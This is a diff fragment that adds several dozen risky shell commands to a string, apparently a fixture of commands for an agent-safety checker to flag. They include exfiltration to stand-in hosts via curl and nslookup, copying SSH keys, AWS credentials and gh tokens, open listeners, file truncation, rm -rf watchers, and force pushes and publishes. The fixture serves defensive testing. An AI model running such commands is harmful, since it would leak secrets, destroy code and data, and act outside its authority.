@@ -2292,6 +2292,49 @@ curl -X POST http://localhost:8080/actuator/shutdown
 curl -X DELETE http://localhost:9200/orders
 curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/prune
 nc -l 9000 < backup.tar
+nc -l 1234
+socat TCP-LISTEN:8080,fork TCP:localhost:3000
+vercel deploy
+netlify deploy
+git remote set-url origin x
+git remote rm upstream
+git tag -d v1
+git merge -X theirs origin/main
+git fetch origin +main:main
+git push upstream main
+git push origin HEAD:main
+git update-ref refs/heads/main HEAD~10
+systemctl restart nginx
+gh pr create --repo upstream/lib --title fix --body x
+tmux send-keys -t prod:0 'systemctl restart mysql' Enter
+psql -h db.prod.example -c 'select * from users'
+scp -r host:~/.ssh .
+git show HEAD~3:.aws/credentials
+cp -r ~/.config/gh ./
+curl "https://x.example/?u=$(whoami)"
+nslookup "$(hostname).x.example"
+curl https://api.example/admin/restart
+curl -k https://internal.example/x
+ssh -o StrictHostKeyChecking=no me@host uptime
+sftp host <<< 'rm *'
+dd if=/dev/sda of=disk.img
+: > src/main.py
+> README.md
+cat /dev/null > .env
+echo > config.yml
+mv src /tmp/src-old
+nodemon --exec 'rm -rf src'
+concurrently 'rm -rf src' 'ls'
+watchexec -- rm -rf src
+pnpm -r publish
+mvn release:perform
+pip freeze | xargs pip uninstall -y
+asdf plugin add other https://git.example/other
+export NODE_EXTRA_CA_CERTS=/tmp/ca.pem
+pyenv global 2.7
+php artisan queue:flush
+./bin/prune-users --all
+cargo install --path . --root /usr/local
 """
 
 
